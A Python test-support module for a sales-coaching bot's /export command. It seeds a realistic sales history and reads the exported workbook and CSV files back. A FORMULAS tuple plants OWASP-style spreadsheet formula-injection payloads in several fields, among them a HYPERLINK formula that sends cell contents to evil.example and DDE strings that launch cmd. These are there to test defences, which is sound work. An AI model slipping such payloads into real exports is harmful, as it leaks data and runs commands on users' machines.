"""Tests of /export: a salesperson's realistic history written straight into the database, and the files
the bot sent read back as a spreadsheet program would (openpyxl for the workbook, csv for the zip)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession

from bot.core.lifecycle.nudges import NudgeStatus
from bot.core.lifecycle.rewards import RewardStatus
from bot.devtools.fake_bot_api import SentCall
from bot.storage.coaching_models import Reward, Setback, StrategyChange
from bot.storage.crm_models import CrmRecordRow
from bot.storage.models import ActivityLog, Entry, GoalAudit, GoalPlan, Nudge, ReviewAnswer
from tests.auxil.goals import insert_goal

RECORDED_AT = datetime(2026, 11, 20, 10, 30, tzinfo=UTC)  # 18:30 in Shanghai
# Texts a spreadsheet would run as formulas (OWASP's list), each somewhere in the history below.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


async def write_history(engine: AsyncEngine, user_id: int, now: datetime, *, days: int = 5) -> dict[str, int]:
    """A goal with its audit and plan, `days` days of results (one from a Zoho deal), calls and visits (one
    from a Fxiaoke record), a review, a setback, a strategy change, a reward and a nudge. Row ids by name."""
    goal_id = await insert_goal(
        engine, user_id, now, metric="revenue", kind="currency", unit="CNY", target_value=Decimal(500_000),
        description="Sell the ERP upgrade to 医院 clients in 华东", baseline=Decimal(400_000),
    )  # fmt: skip
    async with AsyncSession(engine, expire_on_commit=False) as session, session.begin():
        deal = CrmRecordRow(user_id=user_id, system="zoho", kind="deal", record_id="zcrm_5725767000000417001",
                            day=date(2026, 11, 18), amount=Decimal("88000.50"), state="won", owner="Li Wei",
                            title="Suzhou clinic", fingerprint="f" * 32, imported_by=user_id,
                            first_seen_at=RECORDED_AT, updated_at=RECORDED_AT)  # fmt: skip
        visit = CrmRecordRow(user_id=user_id, system="fxiaoke", kind="visit", record_id="65a1f0c2e4b0",
                             day=date(2026, 11, 18), amount=None, state=None, owner="李伟", title="拜访苏州诊所",
                             fingerprint="e" * 32, imported_by=user_id, first_seen_at=RECORDED_AT,
                             updated_at=RECORDED_AT)  # fmt: skip
        session.add_all([deal, visit])
        await session.flush()
        session.add(GoalAudit(goal_id=goal_id, user_id=user_id, at=RECORDED_AT, field="target_value",
                              old_value="450000", new_value=FORMULAS[2]))  # fmt: skip
        session.add(GoalPlan(goal_id=goal_id, month_shares={"2026-12": "40"}, average_deal=Decimal(50_000),
                             win_rate=Decimal(25), activity_targets={"visits": {"count": 20, "per": "week"}},
                             updated_at=RECORDED_AT))  # fmt: skip
        first = date(2026, 11, 27) - timedelta(days=days)
        for offset in range(days):
            day = first + timedelta(days=offset)
            at = RECORDED_AT + timedelta(days=offset)
            session.add(Entry(user_id=user_id, goal_id=goal_id, day=day, amount=Decimal(10_000 + offset),
                              created_at=at, source="review"))  # fmt: skip
            session.add(ActivityLog(user_id=user_id, day=day, measure="calls", amount=Decimal(12), created_at=at,
                                    source="log"))  # fmt: skip
        session.add(Entry(user_id=user_id, goal_id=goal_id, day=deal.day, amount=deal.amount or Decimal(0),
                          created_at=RECORDED_AT, source="crm", crm_record_id=deal.id))  # fmt: skip
        session.add(ActivityLog(user_id=user_id, day=visit.day, measure="visits", amount=Decimal(1),
                                created_at=RECORDED_AT, source="crm", crm_record_id=visit.id))  # fmt: skip
        session.add(ReviewAnswer(user_id=user_id, kind="weekly", day=date(2026, 11, 20),
                                 answers={"went_well": "两个新客户", "rating": 4, "blocker": FORMULAS[3]},
                                 created_at=RECORDED_AT, updated_at=RECORDED_AT))  # fmt: skip
        session.add(Setback(user_id=user_id, day=date(2026, 11, 19), summary=FORMULAS[0],
                            answers={"lesson": "Bring the ROI sheet", "next": FORMULAS[4]},
                            created_at=RECORDED_AT))  # fmt: skip
        session.add(StrategyChange(user_id=user_id, goal_id=goal_id, at=RECORDED_AT, reason="competition",
                                   decision="tactics", note=FORMULAS[1], before={"target_value": "500000"},
                                   after={"target_value": "450000"}))  # fmt: skip
        session.add(Reward(user_id=user_id, goal_id=goal_id, target=Decimal(100_000), start_date=date(2026, 11, 1),
                           deadline=date(2026, 12, 31), treat=FORMULAS[5], status=RewardStatus.ACTIVE,
                           created_at=RECORDED_AT, updated_at=RECORDED_AT))  # fmt: skip
        session.add(Nudge(user_id=user_id, kind="off_track", key=f"off_track:{goal_id}", data={},
                          status=NudgeStatus.SENT, due_at=RECORDED_AT, sent_at=RECORDED_AT,
                          created_at=RECORDED_AT, updated_at=RECORDED_AT))  # fmt: skip
    return {"goal": goal_id, "deal": deal.id, "visit": visit.id}


def documents(calls: list[SentCall]) -> list[SentCall]:
    return [call for call in calls if call.method == "sendDocument"]


def workbook_cells(content: bytes) -> dict[str, list[list[Cell]]]:
    """Every sheet of the workbook as rows of openpyxl cells (header row first), in the file's order."""
    workbook = load_workbook(io.BytesIO(content))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in workbook.worksheets}


def workbook_values(content: bytes) -> dict[str, list[list[Any]]]:
    return {
        name: [[cell.value for cell in row] for row in rows] for name, rows in workbook_cells(content).items()
    }


def zip_tables(content: bytes) -> dict[str, list[list[str]]]:
    """Every CSV of the zip as rows of text, as Excel would read it (UTF-8 with its BOM)."""
    tables = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            raw = archive.read(name)
            assert raw.startswith(b"\xef\xbb\xbf"), f"{name} has no byte-order mark"
            tables[name] = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return tables


def local(at: datetime) -> datetime:
    """A stored instant as the workbook shows it: Shanghai wall time, no offset."""
    return at.astimezone(UTC).replace(tzinfo=None) + timedelta(hours=8)
